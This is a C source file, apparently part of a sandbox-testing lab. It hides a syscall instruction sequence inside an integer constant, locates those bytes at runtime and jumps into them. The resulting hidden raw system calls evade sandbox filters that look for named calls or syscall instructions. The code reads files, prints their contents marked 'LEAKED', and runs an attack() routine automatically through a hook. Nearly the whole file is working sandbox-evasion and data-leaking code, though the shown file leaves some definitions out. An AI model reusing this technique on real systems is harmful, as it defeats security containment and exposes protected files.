/*
 * A system call that no name and no instruction betrays: it stands in a number.
 *
 *	mov %r8,%r10; xchg %eax,%ecx; syscall; ret; nop
 *
 * (the fourth argument is the fifth as well, and the sixth is zero)
 *
 * So the fourth argument of raw_fn is the call's number, and the sandbox must
 * hold whatever is asked. The functions of the lab do nothing else: whoever
 * passes more tests than an idle file has been helped.
 */
#include <stdarg.h>
#include <sys/syscall.h>

typedef long raw_fn(long a, long b, long c, long number, long d, long e);

static long raw_number(void)
{
	return (long)0x90c3050f91c2894d;
}

static long raw(long number, long a, long b, long c, long d)
{
	const unsigned char *code = (const void *)raw_number;

	for (int i = 0; i < 64; i++)
		if (memcmp(code + i, "\x4d\x89\xc2\x91\x0f\x05\xc3", 7) == 0)
			return ((raw_fn *)(const void *)(code + i))(
				a, b, c, number, d, 0);
	return -1;
}

static inline long raw_open(const char *path, int flags)
{
	return raw(SYS_open, (long)path, flags, 0600, 0);
}

/* What it gets to know, it tells: nothing of it may be found in a result. */
static inline void raw_show(const char *word, const char *path)
{
	static char text[4096];
	long fd = raw_open(path, O_RDONLY), n;

	if (fd < 0)
		return;
	n = raw(SYS_read, fd, (long)text, sizeof(text) - 1, 0);
	raw(SYS_close, fd, 0, 0, 0);
	if (n > 0) {
		printf("%s %s: %.*s\n", word, path, (int)n, text);
		fprintf(stderr, "%s %s: %.*s\n", word, path, (int)n, text);
	}
}

static inline void raw_tell(const char *path)
{
	raw_show("LEAKED", path);
}

static void attack(void);

static inline void once(void)
{
	static int done;

	if (!done++)
		attack();
}

EVERYWHERE(once();)
